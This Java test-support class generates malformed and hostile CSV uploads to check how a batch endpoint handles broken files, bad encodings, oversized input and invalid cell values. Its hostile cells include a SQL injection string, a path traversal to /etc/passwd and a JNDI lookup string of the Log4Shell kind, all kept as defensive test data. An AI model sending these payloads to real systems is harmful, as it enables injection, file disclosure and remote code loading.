package az.industry.testsupport;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Collectors;

import az.industry.testsupport.HostileCorpus.Case;

/** Bad CSV for a batch endpoint: broken files, hostile cells of each column, bad bytes, too many rows, the wrong type. */
final class CsvCorpus {

    private static final String CSV = "text/csv";

    private final BodyMutations body;
    private final Set<String> freeText;

    CsvCorpus(BodyMutations body, Set<String> freeText) {
        this.body = body;
        this.freeText = freeText;
    }

    /** Adds the cases to {@code cases}. */
    void addTo(List<Case> cases) {
        Map<String, Object> valid = body.fields();
        List<String> columns = new ArrayList<>(valid.keySet());
        String header = String.join(",", columns);
        String row = columns.stream().map(c -> quote(String.valueOf(valid.get(c)))).collect(Collectors.joining(","));
        String good = header + "\r\n" + row + "\r\n";
        List<String> files = new ArrayList<>(List.of("", "\r\n", header + "\r\n", header, "\uFEFF", row + "\r\n",
                header + "\r\n" + row + "," + "\r\n", header + ",extra\r\n" + row + ",1\r\n", header + "," + columns.get(0) + "\r\n" + row + ",x\r\n",
                header.replace(columns.get(0), columns.get(0) + "X") + "\r\n" + row + "\r\n", good + "\"unterminated,quote\r\n",
                header + "\r\n\"" + row + "\r\n", good + row.substring(0, row.length() / 2) + "\r\n", good.replace(",", ";"),
                good.replace(",", "\t"), "{\"not\":\"csv\"}", "[" + body.compact() + "]", good + "\u0000", good.replace("\r\n", "\r")
                        + "x,y", header + "\r\n" + ",".repeat(columns.size() - 1) + "\r\n"));
        for (String f : files) {
            cases.add(new Case("CSV " + HostileCorpus.shorten(f), CSV, f.getBytes(StandardCharsets.UTF_8)));
        }
        for (int i = 0; i < columns.size(); i++) {
            String name = columns.get(i);
            for (String cell : cells(name, valid.get(name))) {
                List<String> values = columns.stream().map(c -> String.valueOf(valid.get(c))).collect(Collectors.toList());
                values.set(i, cell);
                String bad = header + "\r\n" + row + "\r\n" + values.stream().map(CsvCorpus::quote).collect(Collectors.joining(",")) + "\r\n";
                cases.add(new Case("CSV " + name + " = " + HostileCorpus.shorten(cell), CSV, bad.getBytes(StandardCharsets.UTF_8)));
            }
        }
        byte[] goodBytes = good.getBytes(StandardCharsets.UTF_8);
        cases.add(new Case("CSV with invalid UTF-8", CSV, RawBytes.splice(good, new byte[] { (byte) 0xFF, (byte) 0xFE }, row)));
        cases.add(new Case("CSV as UTF-16", CSV, good.getBytes(StandardCharsets.UTF_16)));
        cases.add(new Case("CSV of 1,001 rows", CSV, (header + "\r\n" + (row + "\r\n").repeat(1001)).getBytes(StandardCharsets.UTF_8)));
        cases.add(new Case("CSV as text/plain", "text/plain", goodBytes));
    }

    /** The hostile cells of column {@code name}, whose valid value is {@code v}. */
    private List<String> cells(String name, Object v) {
        List<String> cells = new ArrayList<>(List.of("\u0000", "a\u0000b", "\u00a0\u00a0", "\u200b", "\u0007", "a\u202eb", "\uFFFE"));
        if (v instanceof Number) {
            cells.addAll(List.of("abc", "1e400", "-1", "1,5", "NaN", "0x10", "12 3", "١٢"));
        } else if (HostileValues.isDate(v)) {
            cells.addAll(List.of("2024-02-30", "-1", "20240101", "2024-01-01T00:00:00", "01.01.2024", "+999999999-12-31", "1899-12-31"));
        } else if (!freeText.contains(name)) {
            cells.addAll(List.of("' OR '1'='1", "../../etc/passwd", "0", "${jndi:ldap://x/a}"));
        }
        return cells;
    }

    private static String quote(String cell) {
        return "\"" + cell.replace("\"", "\"\"") + "\"";
    }
}
